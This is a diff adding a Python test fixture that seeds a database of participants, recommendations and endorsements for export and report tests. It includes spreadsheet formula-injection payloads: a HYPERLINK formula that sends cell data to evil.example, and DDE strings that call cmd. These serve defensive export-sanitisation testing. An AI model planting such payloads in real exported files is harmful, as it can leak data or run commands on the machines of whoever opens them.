@@ -1,0 +1,122 @@
+"""A small, known body of input for export, statistics and report tests."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from datetime import datetime, timedelta
+
+import aiosqlite
+
+from storage import catalogue, participants, recommendations
+from storage.models import Completion, Sector
+from storage.timefmt import to_db
+
+# The classic spreadsheet formula-injection payloads.
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"اضغط هنا")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+_ROUND = (
+    "INSERT INTO rounds (code, name, held_on, place, state, created_at) VALUES (?, ?, ?, ?, 'open', ?) RETURNING id"
+)
+_ANSWER = "UPDATE recommendations SET state = ?, response = ?, responded_by = ?, responded_at = ? WHERE id = ?"
+_HIDE = "UPDATE recommendations SET hidden = 1, hidden_reason = 'spam' WHERE id = ?"
+_ENDORSE = "INSERT INTO endorsements (recommendation_id, participant_id, created_at) VALUES (?, ?, ?)"
+_FORGET = "UPDATE participants SET name = NULL, organisation = NULL, forgotten_at = ? WHERE id = ?"
+
+
+@dataclass
+class Sample:
+    """Ids of what seed() stored."""
+
+    commitments: list[int]
+    round_id: int
+    top: int  # the most endorsed recommendation (commitment 1, funding)
+    answered: int
+    hidden: int
+    forgotten_author: int
+    payloads: list[int]
+    total: int
+
+
+async def seed(conn: aiosqlite.Connection, now: datetime) -> Sample:
+    """Store three people, a round, recommendations on commitments 1 and 2, an update and a milestone."""
+    commitments = [c.id for c in await catalogue.list_commitments(conn)]
+    c1, c2 = commitments[0], commitments[1]
+    themes = await catalogue.list_themes(conn, c1)
+    funding, governance = themes[0].id, themes[1].id
+    salma = await participants.register(
+        conn,
+        "telegram",
+        "1001",
+        name="سلمى الخطيب",
+        organisation="جمعية الشفافية",
+        sector=Sector.CSO,
+        governorate="amman",
+        now=now,
+    )
+    officer = await participants.register(
+        conn,
+        "telegram",
+        "2002",
+        name="أحمد الزعبي",
+        organisation="وزارة التنمية الاجتماعية",
+        sector=Sector.GOVERNMENT,
+        governorate="irbid",
+        now=now,
+    )
+    gone = await participants.register(
+        conn,
+        "telegram",
+        "3003",
+        name="ليلى",
+        organisation="شبكة",
+        sector=Sector.ACADEMIA,
+        governorate="zarqa",
+        now=now,
+    )
+    async with conn.execute(
+        _ROUND, ("meeting-1", "اللقاء الأول لأصحاب المصلحة", "2019-09-30", "عمّان", to_db(now))
+    ) as cur:
+        row = await cur.fetchone()
+    assert row is not None
+    round_id = int(row[0])
+
+    async def add(
+        author: int, commitment: int, theme: int | None, text: str, minutes: int, rnd: int | None = None
+    ) -> int:
+        rec = await recommendations.add_recommendation(
+            conn,
+            participant_id=author,
+            commitment_id=commitment,
+            theme_id=theme,
+            text=text,
+            channel="telegram",
+            now=now + timedelta(minutes=minutes),
+            round_id=rnd,
+        )
+        return rec.id
+
+    low = await add(salma.id, c1, funding, "عدم معاملة جميع مبالغ التمويل نفس المعاملة", 1, round_id)
+    top = await add(gone.id, c1, funding, "تفعيل الرقابة اللاحقة وليس المسبقة", 2, round_id)
+    await add(salma.id, c1, governance, "تسهيل الحصول على الموافقات الأمنية", 3, round_id)
+    hidden = await add(salma.id, c1, governance, "رسالة مزعجة لا علاقة لها بالالتزام", 4, round_id)
+    answered = await add(salma.id, c2, None, "تطوير البرنامج التدريبي ليكون تفاعلياً أكثر", 5)
+    payloads = [await add(salma.id, c2, None, text, 10 + i) for i, text in enumerate(PAYLOADS)]
+    for endorser in (salma.id, officer.id):
+        await conn.execute(_ENDORSE, (top, endorser, to_db(now)))
+    await conn.execute(_ENDORSE, (low, officer.id, to_db(now)))
+    answered_at = now + timedelta(days=3, minutes=5)
+    await conn.execute(_ANSWER, ("accepted", "سنضيف تمارين عملية", officer.id, to_db(answered_at), answered))
+    await conn.execute(_HIDE, (hidden,))
+    await conn.execute(_FORGET, (to_db(now), gone.id))
+    await catalogue.add_status_update(
+        conn, c1, Completion.SUBSTANTIAL, 60, now, note="=1+1 أُنجز نظام التمويل الإلكتروني", author_id=officer.id
+    )
+    await catalogue.add_milestone(conn, c1, "إطلاق النظام الإلكتروني للتمويل", None, now.date(), now)
+    return Sample(commitments, round_id, top, answered, hidden, gone.id, payloads, 5 + len(PAYLOADS))
